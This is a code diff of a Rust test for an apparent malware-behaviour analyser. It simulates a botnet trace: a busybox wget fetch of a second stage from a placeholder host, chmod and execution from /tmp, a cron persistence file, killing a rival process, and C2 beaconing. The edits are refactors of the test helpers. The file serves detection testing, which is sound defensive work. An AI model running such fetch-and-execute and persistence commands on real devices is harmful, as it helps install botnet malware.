@@ -1,8 +1,9 @@
 //! A bot that does everything: loads a second stage, hides, stays, reports, scans, floods.
 
 use super::make::{Maker, SAMPLE};
-use crate::{RuleSet, Seen, What, alike, contents, likeness, report, text};
+use crate::{RuleSet, Seen, alike, contents, likeness, report, text};
 use ukai_model::{Behaviour, Class, Contact, Ended, FindingKind, Sha256};
+use ukai_trace::What;
 
 fn bot(seed: u128, c2: &str) -> Seen {
     let mut maker = Maker::new(seed);
@@ -14,14 +15,14 @@ fn bot(seed: u128, c2: &str) -> Seen {
     maker.execute(8, 7, 10, "/bin/busybox wget http://load.example.org/bins/b.mips -O /tmp/.b");
     maker.name(20, "load.example.org", "20.5.5.5");
     maker.connect(8, 25, "20.5.5.5", 80, 6);
-    maker.http(30, "20.5.5.5", 80, "GET", "load.example.org", "/bins/b.mips", "Wget");
+    maker.http(30, ("20.5.5.5", 80), "GET", "load.example.org", "/bins/b.mips", "Wget");
     maker.write(8, 40, "/tmp/.b", 9_000);
     maker.tell(8, 41, What::Mode { path: b"/tmp/.b".to_vec(), mode: 0o755 });
     maker.exit(8, 50, 0);
     maker.tell(7, 55, What::Fork { child: 9, thread: false });
     maker.execute(9, 7, 60, "/tmp/.b telnet");
     maker.write(9, 70, "/etc/cron.d/update", 60);
-    maker.tell(9, 75, What::Kill { target: 400, signal: 9 });
+    maker.tell(9, 75, What::Kill { target: 400, name: b"dvrHelper".to_vec(), signal: 9 });
     for n in 0..12 {
         maker.connect(9, 100 + n * 4_000, c2, 48_101, 6);
         maker.payload(100 + n * 4_000, c2, 48_101, b"\x00\x00\x00\x01BOT\"1");
@@ -37,7 +38,7 @@ fn bot(seed: u128, c2: &str) -> Seen {
     maker.seen(Ended::TimeUsed)
 }
 
-fn contact<'a>(report: &'a Behaviour, class: Class) -> &'a Contact {
+fn contact(report: &Behaviour, class: Class) -> &Contact {
     let found = report.contacts.iter().find(|contact| contact.class == class);
     found.unwrap_or_else(|| panic!("{class:?} in {:#?}", report.contacts))
 }
